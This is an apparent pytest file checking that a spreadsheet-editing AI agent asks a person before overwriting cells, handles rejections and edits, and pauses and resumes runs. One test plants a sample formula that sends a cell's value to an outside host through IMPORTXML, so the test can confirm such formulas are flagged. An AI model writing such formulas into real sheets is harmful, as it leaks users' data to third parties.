"""Whole runs in which a person is asked before anything is written."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest
from protocol_server import ProtocolServer
from scenario import (
    HEADER,
    OPENINGS,
    OVERWRITING,
    TASK,
    Person,
    agent,
    cells,
    describes,
    plans,
    sums_up,
)

from sheets_agent.errors import UsageError
from sheets_agent.feedback.person import Decision
from sheets_agent.state.done import Status


class TestAskingAPerson:
    def test_overwriting_is_shown_and_approved(self, scripted: ProtocolServer, sales: Path) -> None:
        scripted.script(describes(), plans(OVERWRITING), sums_up())
        person = Person(Decision(verdict="approve"))
        result = agent(person).run(str(sales), TASK)
        (review,) = person.reviews
        assert "Регион" in review.reasons[0]
        assert review.diff.cells[0].before == "Регион"
        assert cells(result.files[0], "Продажи")["A1"] == "Выручка"

    def test_a_rejected_plan_writes_nothing(self, scripted: ProtocolServer, sales: Path) -> None:
        scripted.script(describes(), plans(OVERWRITING))
        result = agent(Person(Decision(verdict="reject"))).run(str(sales), TASK)
        assert result.status is Status.REJECTED
        assert (result.usage.api_writes, result.files) == (0, ())

    def test_a_reason_for_rejecting_goes_to_the_planner(self, scripted: ProtocolServer, sales: Path) -> None:
        scripted.script(
            describes(),
            plans(OVERWRITING),
            plans(HEADER),
            sums_up(),
        )
        result = agent(Person(Decision(verdict="reject", comment="Не трогай A1"))).run(str(sales), TASK)
        assert result.status is Status.DONE
        assert cells(result.files[0], "Продажи")["A1"] == "Регион"
        assert "Не трогай A1" in [r.text for r in scripted.chats if re.search(OPENINGS["planner"], r.text)][1]

    def test_an_edited_plan_is_tried_anew_and_written(self, scripted: ProtocolServer, sales: Path) -> None:
        from sheets_agent.planners.draft import read_plan

        scripted.script(describes(), plans(OVERWRITING), sums_up())
        edited = Decision(verdict="edit", plan=read_plan({"steps": [HEADER]}))
        result = agent(Person(edited)).run(str(sales), TASK)
        written = cells(result.files[0], "Продажи")
        assert (written["A1"], written["E1"]) == ("Регион", "Выручка")

    def test_without_a_person_the_run_pauses_and_resumes(self, scripted: ProtocolServer, sales: Path) -> None:
        scripted.script(describes("Что такое Цена?"), plans(OVERWRITING), sums_up())
        worker = agent()
        asked = worker.run(str(sales), TASK)
        assert asked.status is Status.PAUSED
        assert [question.text for question in asked.questions] == ["Что такое Цена?"]
        answer = {"decisions": [{"type": "respond", "message": "Цена без НДС"}]}
        review = worker.resume(asked.run_id, answer)
        assert review.status is Status.PAUSED
        assert review.questions[0].options == ("approve", "edit", "reject")
        assert "Цена без НДС" in next(r.text for r in scripted.chats if re.search(OPENINGS["planner"], r.text))
        assert review.usage.api_writes == 0
        done = worker.resume(asked.run_id, {"decisions": [{"type": "approve"}]})
        assert done.status is Status.DONE
        assert cells(done.files[0], "Продажи")["A1"] == "Выручка"
        with pytest.raises(UsageError, match="has ended"):
            worker.resume(asked.run_id, answer)

    def test_a_formula_that_reaches_outside_is_asked_about(self, scripted: ProtocolServer, sales: Path) -> None:
        leak = {**HEADER, "options": ['value==IMPORTXML("http://example.com/?"&A2,"//a")']}
        scripted.script(describes(), plans(leak))
        refused = agent(max_rounds=0).run(str(sales), TASK)
        assert refused.status is Status.INCOMPLETE
        assert "--allow-function IMPORTXML" in refused.summary
        scripted.script(describes(), plans(leak))
        person = Person(Decision(verdict="reject"))
        assert agent(person, allow_functions=["IMPORTXML"]).run(str(sales), TASK).status is Status.REJECTED
        assert "IMPORTXML reaches outside" in person.reviews[0].reasons[0]

    def test_a_paused_run_goes_on_in_another_process(self, scripted: ProtocolServer, sales: Path) -> None:
        scripted.script(describes(), plans(OVERWRITING), sums_up())
        paused = agent().run(str(sales), TASK)
        done = agent().resume(paused.run_id, {"decisions": [{"type": "approve"}]})  # another agent: nothing is shared
        assert done.status is Status.DONE
        assert cells(done.files[0], "Продажи")["A1"] == "Выручка"
        assert sum(bool(re.search(OPENINGS["planner"], request.text)) for request in scripted.chats) == 1

    def test_the_policies(self, scripted: ProtocolServer, sales: Path) -> None:
        scripted.script(describes(), plans(HEADER))
        assert agent(approve="always").run(str(sales), TASK).status is Status.PAUSED
        scripted.script(describes(), plans(OVERWRITING))
        unasked = agent(approve="never", max_rounds=0).run(str(sales), TASK)
        assert (unasked.status, unasked.files) == (Status.INCOMPLETE, ())
        scripted.script(describes(), plans(OVERWRITING), sums_up())
        assert agent(approve="never", only=["'Продажи'!A1"]).run(str(sales), TASK).status is Status.DONE


def test_what_changed_while_a_person_thought_is_shown_before_it_is_written(openai_server: ProtocolServer) -> None:
    from sheets_agent.emulator.server import serve
    from sheets_agent.emulator.service import Emulator
    from sheets_agent.emulator.transport import EmulatorHttp
    from sheets_agent.sheets.client import SheetsClient

    emulator = Emulator()
    book = emulator.create("Live", "en_US", "Etc/GMT").spreadsheet_id
    colleague = SheetsClient(EmulatorHttp(emulator))
    colleague.update_values(book, "Sheet1!A1", [["Регион"], ["Север"]])

    class Slow(Person):
        def review(self, review: Any) -> Decision:
            if not self.reviews:
                colleague.update_values(book, "Sheet1!A1", [["Область"]])
            return super().review(review)

    title = {**HEADER, "target": "Sheet1!A1"}
    openai_server.script(describes(), plans(title), sums_up())
    person = Slow(Decision(verdict="approve"), Decision(verdict="approve"))
    with serve(emulator, 0) as server:
        result = agent(person, api_endpoint=server.url).run(book, TASK)
    assert [review.diff.cells[0].before for review in person.reviews] == ["Регион", "Область"]
    assert result.status is Status.DONE
    assert colleague.values(book, "Sheet1!A1") == [["Выручка"]]
